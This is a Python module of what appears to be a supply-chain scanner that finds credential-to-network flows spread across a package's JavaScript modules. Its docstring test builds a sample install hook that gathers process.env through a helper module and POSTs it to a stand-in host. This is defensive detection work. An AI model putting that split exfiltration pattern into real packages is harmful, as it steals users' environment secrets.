"""JavaScript and TypeScript modules of one package read together.

An install hook that "warms a cache" need not read a secret itself: it calls
``runtimeContext()`` from ``lib/ctx.js``, which gathers the environment, and sends what that
returns in a request header. Each module alone is harmless to a per-file analysis. Here
every module's function summaries (what its functions return, which of their parameters
reach a sink) are handed to each script that ``require``\\s or imports a module of the
package by a relative path, and that script is analysed again; what the second analysis
adds is reported at the call.

>>> files = {
...     "lib/ctx.js": "function ctx() { return {env: process.env}; }\\n"
...                   "module.exports = { ctx };",
...     "scripts/warm.js": "const { ctx } = require('../lib/ctx');\\n"
...                        "fetch('https://cdn.example.invalid/t', "
...                        "{method: 'POST', body: JSON.stringify(ctx())});",
... }
>>> [(f.file, f.line, f.rule_id) for f in js_package_findings(files)]
[('scripts/warm.js', 2, 'js-flow.credential-to-network')]
"""

from __future__ import annotations

import re
from collections.abc import Mapping

from .code_analysis import unseen_findings
from .content_cache import ContentCache
from .findings import ThreatFinding
from .flow.js_engine import analyse_javascript, module_stem
from .flow.recorder import FlowReport
from .flow.taint import FunctionSummary
from .structure import JAVASCRIPT, classify
from .textutil import is_test_file

_LOCAL_MODULE = re.compile(r"""(?:\brequire\s*\(|\bfrom)\s*['"]\.\.?/""")
"""A ``require`` or ``import`` of a module named by a relative path: one of the package's."""
_ALONE = ContentCache(1024)
"""Flow reports of scripts analysed alone, by path and text."""


def _alone(path: str, text: str) -> FlowReport:
    return _ALONE.get_or_compute(path, text, lambda: analyse_javascript(path, text))


def js_package_findings(files: Mapping[str, str]) -> list[ThreatFinding]:
    """Flow findings a script has only through the functions of the package's other
    JavaScript/TypeScript modules that it calls."""
    scripts = {
        path: text
        for path, text in files.items()
        if classify(path, text) == JAVASCRIPT and not is_test_file(path)
    }
    importers = [path for path, text in scripts.items() if _LOCAL_MODULE.search(text)]
    if len(scripts) < 2 or not importers:
        return []
    summaries: dict[tuple[str, str], FunctionSummary] = {
        (module_stem(path), name): summary
        for path, text in scripts.items()
        for name, summary in _alone(path, text).summaries.items()
    }
    findings: list[ThreatFinding] = []
    for path in importers:
        text = scripts[path]
        together = analyse_javascript(path, text, summaries).findings
        findings += unseen_findings(list(_alone(path, text).findings), list(together))
    return findings
